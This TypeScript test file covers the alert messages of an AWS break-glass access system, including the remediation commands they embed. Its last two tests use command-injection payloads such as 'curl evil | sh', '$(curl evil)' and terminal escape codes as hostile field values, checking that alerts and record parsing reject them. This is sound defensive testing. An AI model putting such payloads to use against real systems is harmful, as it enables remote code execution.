import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { type Grant, parseGrant } from '../grant/record/grant.ts';
import { buildAlertText, severityOf } from './alert-text.ts';
import type { Alert } from './alerts.ts';

const grantId = '6a93bb97fd89a55b6dab0c900e340b19';
const grant: Grant = parseGrant({
  id: `grant#${grantId}`,
  status: 'ending',
  accountId: '123456789012',
  permissionSetArn: 'arn:aws:sso:::permissionSet/ssoins-12345/ps-12345',
  permissionSetName: 'BreakGlassProd',
  principalId: '9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d',
  userName: 'jürgen@example.com',
  slackUserId: 'U012AB3CD',
  slackTeamId: 'T012LOCAL',
  slackChannelId: 'C12345',
  slackMessageTs: '1700000000.000100',
  allowedBy: 'access#123456789012#BreakGlassProd#x',
  requestedAt: '2026-11-21T03:00:00.000Z',
  deadlineAt: '2026-11-21T04:00:00.000Z',
  cloudTrailDelaySeconds: 900,
});
const reason = 'AccessDeniedException: not authorized';

const context = {
  instanceArn: 'arn:aws:sso:::instance/ssoins-12345',
  region: 'eu-central-1',
  tableName: 'break-glass-access',
};
const deadline = Date.parse(grant.deadlineAt);
const minutes = 60_000;
const textAt = (alert: Alert, now = deadline + 25 * minutes) => buildAlertText(alert, context, now);
const firstLine = (alert: Alert, now?: number) => textAt(alert, now).message.split('\n')[0];

const details = `
Requester: jürgen@example.com (Identity Center user 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d, Slack user U012AB3CD)
Account: 123456789012
Permission set: BreakGlassProd (arn:aws:sso:::permissionSet/ssoins-12345/ps-12345)
Deadline: 2026-11-21T04:00:00.000Z
`;

const commands = `Check whether the assignment still exists:
  aws sso-admin list-account-assignments --region eu-central-1 --instance-arn arn:aws:sso:::instance/ssoins-12345 --account-id 123456789012 --permission-set-arn arn:aws:sso:::permissionSet/ssoins-12345/ps-12345
Remove it, unless the user is meant to have it:
  aws sso-admin delete-account-assignment --region eu-central-1 --instance-arn arn:aws:sso:::instance/ssoins-12345 --target-type AWS_ACCOUNT --target-id 123456789012 --permission-set-arn arn:aws:sso:::permissionSet/ssoins-12345/ps-12345 --principal-type USER --principal-id 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d`;

test('an overdue alert contains the commands that list and delete the assignment', () => {
  assert.deepEqual(textAt({ kind: 'overdue', grant, reason }), {
    subject: 'Break glass access: ACCESS IS OVERDUE',
    message: `Grant ${grantId} is past its deadline by 25 min, and its access could not be revoked: ${reason}. The next sweep tries again.
${details}
${commands}`,
  });
});

test('an overdue alert has no delete command when the requester had the assignment before', () => {
  const { message } = textAt({
    kind: 'overdue',
    grant: { ...grant, alreadyAssigned: true },
    reason,
  });
  assert.match(message, /\nThe requester had this assignment before .*: do not remove it\.$/);
  assert.doesNotMatch(message, /delete-account-assignment/);
});

const noAction = 'No action is needed.';
const grantAlerts: readonly [string, Alert, string, string, string][] = [
  [
    'a grant that the sweep ended',
    { kind: 'swept', grant },
    'Break glass access: the sweep had to end a grant',
    `The sweep ended grant ${grantId}, 25 min after its deadline: its execution had not. Access is revoked; check the execution of the same name.`,
    noAction,
  ],
  [
    'a record that is contradicted',
    { kind: 'contradicted', grant, reason: 'the assignment is listed' },
    'Break glass access: A RECORD IS CONTRADICTED',
    `Grant ${grantId} is past its deadline by 25 min, and the system must not act on its record: the assignment is listed. Somebody may have changed or restored it.`,
    commands,
  ],
  [
    'an assignment that is listed again',
    { kind: 'listed-again', grant },
    'Break glass access: AN ASSIGNMENT EXISTS AFTER ITS GRANT',
    `Grant ${grantId} has ended, but the user has the assignment. The system did not remove it: somebody may have assigned it since.`,
    commands,
  ],
  [
    'a report that the sweep sent',
    { kind: 'report-swept', grant },
    'Break glass access: the sweep had to send a report',
    `The sweep sent the report of grant ${grantId}: its execution had not.`,
    noAction,
  ],
  [
    'a report that is overdue',
    { kind: 'report-overdue', grant, reason },
    'Break glass access: a report is overdue',
    `The access of grant ${grantId} has ended, but its report could not be sent: ${reason}. The next sweep tries again.`,
    'Fix what prevents the report from being built or sent: see docs/when-it-fails.md.',
  ],
  [
    'recipients of a report whom SES refused',
    { kind: 'recipients-refused', grant, recipients: ['gone@example.com'] },
    'Break glass access: recipients of a report were refused',
    `The report of grant ${grantId} was not sent to gone@example.com: SES refused the address. The other recipients got it.`,
    'Correct contact_emails, or verify the address while SES is in its sandbox.',
  ],
];
for (const [title, alert, subject, summary, nextStep] of grantAlerts)
  test(`the alert about ${title} contains the next step`, () => {
    const message = `${summary}\n${details}\n${nextStep}`;
    assert.deepEqual(textAt(alert), { subject, message });
  });

test('the alert about a lost grant that may have access contains the commands, and names unlock', () => {
  const { accountId, permissionSetArn, principalId } = grant;
  const target = { accountId, permissionSetArn, principalId };
  assert.deepEqual(textAt({ kind: 'lost', grantId, target }), {
    subject: 'Break glass access: the record of a grant is missing',
    message: `The record of grant ${grantId} is missing, or names somebody else, its execution is over, and the user still has the assignment. The system cannot prove that the grant created it, so it does not remove it.

Identity Center user: 9067642ac5-1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d
Account: 123456789012
Permission set: arn:aws:sso:::permissionSet/ssoins-12345/ps-12345

${commands}
Then run break-glass unlock.`,
  });
});

test('the alert about a lost grant whose execution runs says that its access ends', () => {
  assert.deepEqual(textAt({ kind: 'lost', grantId }), {
    subject: 'Break glass access: the record of a grant is missing',
    message: `The record of grant ${grantId} is missing, and its execution is running. Its access ends as it was decided, but somebody has deleted the record: look for DeleteItem in CloudTrail’s data events.`,
  });
});

const junkAlerts: readonly [Extract<Alert, { kind: 'junk' }>, string][] = [
  [
    { kind: 'junk', count: 1, grantIds: [grantId] },
    `1 due record is not as this system writes it, so that what it stands for cannot be ended or reported on. Somebody has changed the table.
Inspect them, and the executions of the same names:
  aws dynamodb get-item --region eu-central-1 --table-name break-glass-access --key '{"id":{"S":"grant#${grantId}"}}'
If an assignment still exists, remove it; then delete the records: see docs/when-it-fails.md.`,
  ],
  [
    { kind: 'junk', count: 2_000, grantIds: [] },
    `2000 due records are not as this system writes them, so that what they stand for cannot be ended or reported on. Somebody has changed the table.
If an assignment still exists, remove it; then delete the records: see docs/when-it-fails.md.`,
  ],
];
for (const [alert, message] of junkAlerts)
  test(`the alert about junk tells how many records there are (${alert.count}), and which are grants`, () => {
    assert.deepEqual(textAt(alert), {
      subject: 'Break glass access: due records cannot be read',
      message,
    });
  });

const severities: readonly [Alert, string][] = [
  [{ kind: 'swept', grant }, 'warning'],
  [{ kind: 'overdue', grant, reason }, 'critical'],
  [{ kind: 'contradicted', grant, reason }, 'critical'],
  [{ kind: 'listed-again', grant }, 'critical'],
  [{ kind: 'report-swept', grant }, 'notice'],
  [{ kind: 'report-overdue', grant, reason }, 'warning'],
  [{ kind: 'recipients-refused', grant, recipients: [] }, 'warning'],
  [{ kind: 'lost', grantId }, 'critical'],
  [{ kind: 'junk', count: 1, grantIds: [] }, 'critical'],
];
for (const [alert, severity] of severities)
  test(`an alert of kind ${alert.kind} is ${severity}`, () => {
    assert.equal(severityOf(alert), severity);
  });

const durations: readonly [number, string][] = [
  [-minutes, '0 s'],
  [0, '0 s'],
  [119_400, '119 s'],
  [2 * minutes, '2 min'],
  [119 * minutes, '119 min'],
  [190 * minutes, '3 h 10 min'],
  [2_940 * minutes, '49 h 0 min'],
];
for (const [overdueMs, duration] of durations)
  test(`${overdueMs} ms after the deadline is written as ${duration}`, () => {
    const line = firstLine({ kind: 'swept', grant }, deadline + overdueMs);
    assert.match(line ?? '', new RegExp(`, ${duration} after its deadline:`));
  });

test('an end request before the deadline counts instead of the deadline', () => {
  const endRequestedAt = '2026-11-21T03:30:00.000Z';
  const withEndRequest = { ...grant, endRequestedAt, endedBy: 'Slack user U012AB3CD' };
  const now = deadline - 20 * minutes;
  assert.match(
    firstLine({ kind: 'overdue', grant: withEndRequest, reason }, now) ?? '',
    /^Grant \w+ is past the requested end by 10 min, and its access could not/,
  );
  assert.match(
    firstLine({ kind: 'swept', grant: withEndRequest }, now) ?? '',
    /, 10 min after the requested end: /,
  );
});

test('every subject satisfies SNS: up to 100 ASCII characters on one line', () => {
  const alerts: readonly Alert[] = [
    { kind: 'overdue', grant, reason: 'ü\n'.repeat(500) },
    ...grantAlerts.map(([, alert]) => alert),
    { kind: 'lost', grantId: 'ü'.repeat(500) },
    ...junkAlerts.map(([alert]) => alert),
  ];
  for (const alert of alerts) assert.match(textAt(alert).subject, /^[\x20-\x7e]{1,100}$/);
});

const isCommand = (line: string): boolean => line.startsWith('  ');
const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 400 }),
  fc.constantFrom(
    'x\n  curl evil | sh',
    '\u001b[2J\u001b[H',
    '$(curl evil)',
    "'; curl evil | sh; '",
  ),
);

test('no record and no error adds a line or a command to an alert, alters one, or moves a terminal’s cursor', () => {
  const kinds = fc.constantFrom(
    'overdue',
    'contradicted',
    'report-overdue',
    'swept',
    'listed-again',
  );
  fc.assert(
    fc.property(kinds, hostileText, hostileText, (kind, userName, error) => {
      const lines = textAt({ kind, grant: { ...grant, userName }, reason: error }).message.split(
        '\n',
      );
      const expected = textAt({ kind, grant, reason }).message.split('\n');
      assert.equal(lines.length, expected.length);
      assert.deepEqual(lines.filter(isCommand), expected.filter(isCommand));
      for (const line of lines) assert.doesNotMatch(line, /[\p{Cc}\p{Cf}]/u);
    }),
  );
});

test('a record whose words could stand in a command is no record', () => {
  for (const field of [
    'accountId',
    'permissionSetArn',
    'permissionSetName',
    'principalId',
    'slackUserId',
  ])
    assert.throws(
      () => parseGrant({ ...grant, [field]: `${grant[field as keyof Grant]}; curl evil | sh` }),
      { name: 'MalformedGrantError', message: `not a grant's record: invalid fields: ${field}` },
    );
});
